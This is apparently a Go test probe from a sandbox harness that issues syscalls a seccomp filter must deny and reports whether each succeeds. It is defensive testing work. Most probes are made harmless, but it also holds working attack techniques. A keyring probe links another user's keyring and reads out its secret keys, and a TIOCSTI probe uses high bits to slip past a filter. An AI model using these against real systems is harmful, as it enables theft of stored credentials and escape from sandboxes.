//go:build linux

package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The syscall probes (HOSTILE_SYSCALL, a comma-separated list of names or
// name=target) call what the launcher's seccomp filter must deny, each as
// an attacker would use it, and report under "syscall:NAME". OK means the
// call succeeded; Err is the errno. None of them can harm the host when
// it succeeds: reboot is called with an invalid magic, the modules and
// the kexec image are empty, a mount is undone.
var syscallProbes = map[string]func(target string) result{
	"keyring":       keyring,
	"add_key":       addKey,
	"unshare-user":  unshareUser,
	"clone-newuser": cloneNewUser,
	"clone3":        clone3,
	"mount":         mount,
	"bpf":           bpfMap,
	"perf":          perf,
	"userfaultfd":   userfaultfd,
	"init_module":   initModule,
	"kexec":         kexec,
	"reboot":        reboot,
	"setns":         setns,
	"tiocsti":       tiocsti,
	"x32":           x32,
	"i386":          i386,
	"io_uring":      ioURing,
	"proc-keys":     procKeys,
}

// childArg makes the agent a child that runs one probe in a process of
// its own (a new session with a terminal, for tiocsti) and prints its
// result. Checked in init, before main, as linger is in main.
const childArg = "syscall-child"

func init() {
	if len(os.Args) == 3 && os.Args[1] == childArg {
		_ = json.NewEncoder(os.Stdout).Encode(childProbes[os.Args[2]]())
		os.Exit(0)
	}
}

var childProbes = map[string]func() result{"tiocsti": tiocstiChild, "i386": i386Child}

// inChild runs a child probe and returns its result; a child killed by a
// signal (an ABI the CPU faults on) is an error.
func inChild(name string, cmd *exec.Cmd) result {
	cmd.Path, cmd.Args = "/proc/self/exe", []string{"/proc/self/exe", childArg, name}
	out, err := cmd.Output()
	if err != nil {
		var exit *exec.ExitError
		if errors.As(err, &exit) {
			first, _, _ := strings.Cut(string(exit.Stderr), "\n")
			return result{Err: fmt.Sprintf("%v: %s", err, first)}
		}
		return outcome(err)
	}
	var res result
	if err := json.Unmarshal(out, &res); err != nil {
		return outcome(err)
	}
	return res
}

func syscalls(r map[string]result) {
	for _, kv := range strings.Split(os.Getenv("HOSTILE_SYSCALL"), ",") {
		name, target, _ := strings.Cut(kv, "=")
		if name == "" {
			continue
		}
		p, ok := syscallProbes[name]
		if !ok {
			r["syscall:"+name] = result{Err: "no such probe"}
			continue
		}
		r["syscall:"+name] = p(target)
	}
}

func errno(e syscall.Errno) result {
	if e != 0 {
		return result{Err: e.Error()}
	}
	return result{OK: true}
}

// keyring is the attack of issue 27: find the server user's keyring
// (_uid.N) in /proc/keys, link it into a session keyring of its own (the
// user's permissions allow link), and read what it holds, which possession
// now allows. target, when a number, is one more keyring to go for.
func keyring(target string) result {
	var ids []int
	if id, err := strconv.Atoi(target); err == nil {
		ids = append(ids, id)
	}
	found, err := userKeyrings()
	ids = append(ids, found...)
	if len(ids) == 0 {
		return result{Err: fmt.Sprintf("no user keyring found (/proc/keys: %v)", err)}
	}
	done := make(chan result, 1)
	go func() {
		// A session keyring is a thread's: this one is never unlocked, so
		// it ends with the goroutine and takes its keyring along.
		runtime.LockOSThread()
		var res result
		if _, err := unix.KeyctlInt(unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0); err != nil {
			res.Err = "join a session keyring: " + err.Error()
		}
		var stolen []string
		for _, id := range ids {
			if _, err := unix.KeyctlInt(unix.KEYCTL_LINK, id, unix.KEY_SPEC_SESSION_KEYRING, 0, 0); err != nil && res.Err == "" {
				res.Err = fmt.Sprintf("link keyring %d: %v", id, err)
			}
			keys, err := keyringKeys(id)
			if err != nil && res.Err == "" {
				res.Err = fmt.Sprintf("read keyring %d: %v", id, err)
			}
			for _, k := range keys {
				desc, _ := unix.KeyctlString(unix.KEYCTL_DESCRIBE, k)
				buf := make([]byte, 4096)
				n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, k, buf, 0)
				if err != nil {
					continue
				}
				stolen = append(stolen, fmt.Sprintf("%s=%s", desc, buf[:min(n, len(buf))]))
			}
		}
		switch {
		case len(stolen) > 0:
			res = result{OK: true, Detail: strings.Join(stolen, "; ")}
		case res.Err == "":
			res.Err = fmt.Sprintf("no key could be read in keyrings %v", ids)
		}
		done <- res
	}()
	return <-done
}

// userKeyrings lists the _uid.N keyrings /proc/keys shows.
func userKeyrings() ([]int, error) {
	f, err := os.Open("/proc/keys")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var ids []int
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		// serial flags usage expiry perm uid gid type description
		fs := strings.Fields(sc.Text())
		if len(fs) < 9 || fs[7] != "keyring" || !strings.HasPrefix(fs[8], "_uid.") {
			continue
		}
		if id, err := strconv.ParseInt(fs[0], 16, 32); err == nil {
			ids = append(ids, int(id))
		}
	}
	return ids, sc.Err()
}

// keyringKeys reads a keyring: the serials of the keys it holds.
func keyringKeys(id int) ([]int, error) {
	buf := make([]byte, 4096)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err != nil {
		return nil, err
	}
	var keys []int
	for i := 0; i+4 <= min(n, len(buf)); i += 4 {
		keys = append(keys, int(int32(binary.NativeEndian.Uint32(buf[i:]))))
	}
	return keys, nil
}

func addKey(string) result {
	_, err := unix.AddKey("user", "hostile", []byte("hostile"), unix.KEY_SPEC_PROCESS_KEYRING)
	return outcome(err)
}

// unshareUser and cloneNewUser start /bin/true in a new user namespace
// (and network namespace: the forked child holds every capability over
// them until it execs), Go's forked child calling unshare, or Go calling
// clone, with the flags. No id is mapped: Landlock keeps /proc read-only.
func unshareUser(string) result {
	cmd := exec.Command("/bin/true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWUSER}
	return outcome(cmd.Run())
}

func cloneNewUser(string) result {
	cmd := exec.Command("/bin/true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET}
	return outcome(cmd.Run())
}

// cloneArgs is struct clone_args as of Linux 5.3 (CLONE_ARGS_SIZE_VER0).
type cloneArgs struct {
	flags, pidfd, childTID, parentTID, exitSignal, stack, stackSize, tls uint64
}

// clone3 forks with a new user namespace through clone3, whose flags are
// in memory where a seccomp filter cannot read them.
func clone3(string) result {
	args := cloneArgs{flags: unix.CLONE_NEWUSER, exitSignal: uint64(syscall.SIGCHLD)}
	pid, e := rawClone3(&args)
	if e != 0 {
		return errno(e)
	}
	var ws syscall.WaitStatus
	_, _ = syscall.Wait4(int(pid), &ws, 0, nil)
	return result{OK: true, Detail: "child " + strconv.Itoa(int(pid))}
}

// rawClone3 is clone3 as fork. The child is a copy of one thread of a Go
// program, which can run no Go code safely: it exits at once, as the
// syscall package's own forked children run nothing but raw syscalls.
//
//go:nosplit
//go:norace
func rawClone3(args *cloneArgs) (uintptr, syscall.Errno) {
	pid, _, e := syscall.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(args)), unsafe.Sizeof(*args), 0)
	if e == 0 && pid == 0 {
		syscall.RawSyscall(syscall.SYS_EXIT_GROUP, 0, 0, 0)
	}
	return pid, e
}

func mount(string) result {
	dir, err := os.MkdirTemp(".", "hostile-mnt-")
	if err != nil {
		return outcome(err)
	}
	defer os.Remove(dir)
	err = unix.Mount("tmpfs", dir, "tmpfs", 0, "size=1m")
	if err == nil {
		_ = unix.Unmount(dir, unix.MNT_DETACH)
	}
	return outcome(err)
}

// bpfMap creates the smallest BPF map there is.
func bpfMap(string) result {
	// union bpf_attr for BPF_MAP_CREATE: map_type, key_size, value_size,
	// max_entries, then zeroes.
	attr := [16]uint32{unix.BPF_MAP_TYPE_ARRAY, 4, 4, 1}
	fd, _, e := unix.Syscall(unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

// perf opens a software counter of its own, user space only: what
// perf_event_paranoid 2 allows anyone.
func perf(string) result {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK,
		Bits: unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
	attr.Size = uint32(unsafe.Sizeof(attr))
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	return outcome(err)
}

func userfaultfd(string) result {
	const userModeOnly = 1 // UFFD_USER_MODE_ONLY: what anyone may ask since Linux 5.11
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|userModeOnly, 0, 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

func initModule(string) result {
	return outcome(unix.InitModule([]byte("hostile"), ""))
}

// kexec passes the capability check or not, and then fails on its
// segment count and arch, which are wrong: no segment count of 0 (which
// would unload a loaded crash kernel), no image.
func kexec(string) result {
	const tooMany, noArch = 1000, 0xffff0000
	_, _, e := unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, tooMany, 0, noArch, 0, 0)
	return errno(e)
}

// reboot passes the capability check or not, and then fails on its first
// magic number, which is wrong: it can never reboot.
func reboot(string) result {
	_, _, e := unix.Syscall6(unix.SYS_REBOOT, 0, unix.LINUX_REBOOT_MAGIC2, unix.LINUX_REBOOT_CMD_POWER_OFF, 0, 0, 0)
	return errno(e)
}

// setns joins a namespace, by default its own network namespace (which
// needs CAP_SYS_ADMIN over it, as any other would).
func setns(target string) result {
	if target == "" {
		target = "/proc/self/ns/net"
	}
	fd, err := unix.Open(target, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return outcome(err)
	}
	defer unix.Close(fd)
	return outcome(unix.Setns(fd, 0))
}

// tiocsti starts a child in a new session whose controlling terminal is a
// pty of its own, where TIOCSTI is allowed without capabilities.
func tiocsti(string) result {
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return result{Err: "no pty: " + err.Error()}
	}
	defer ptmx.Close()
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return result{Err: "no pty: " + err.Error()}
	}
	n, err := unix.IoctlGetUint32(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		return result{Err: "no pty: " + err.Error()}
	}
	pts, err := os.OpenFile("/dev/pts/"+strconv.Itoa(int(n)), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return result{Err: "no pty: " + err.Error()}
	}
	defer pts.Close()
	cmd := &exec.Cmd{Stdin: pts, SysProcAttr: &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}}
	return inChild("tiocsti", cmd)
}

// tiocstiChild pushes a character into its terminal's input, once with
// the plain command and once with bits above the 32 the kernel reads (a
// filter comparing all 64 bits lets that one through).
func tiocstiChild() result {
	c := byte('x')
	var errs []string
	for _, cmd := range []uint64{unix.TIOCSTI, unix.TIOCSTI | 1<<32} {
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, uintptr(cmd), uintptr(unsafe.Pointer(&c)))
		if e == 0 {
			return result{OK: true, Detail: fmt.Sprintf("ioctl %#x", cmd)}
		}
		errs = append(errs, fmt.Sprintf("ioctl %#x: %v", cmd, e))
	}
	return result{Err: strings.Join(errs, "; ")}
}

// ioURing sets up a ring, which runs syscalls from kernel threads.
func ioURing(string) result {
	var params [120]byte // struct io_uring_params
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params)), 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

// procKeys reads /proc/keys and /proc/key-users, where the keyring attack
// starts: OK when either shows a line.
func procKeys(string) result {
	var lines int
	var errs []string
	for _, p := range []string{"/proc/keys", "/proc/key-users"} {
		b, err := os.ReadFile(p)
		if err != nil {
			errs = append(errs, err.Error())
			continue
		}
		lines += strings.Count(string(b), "\n")
	}
	if lines > 0 {
		return result{OK: true, Detail: strconv.Itoa(lines) + " lines"}
	}
	if len(errs) == 0 {
		return result{Err: "empty"}
	}
	return result{Err: strings.Join(errs, "; ")}
}
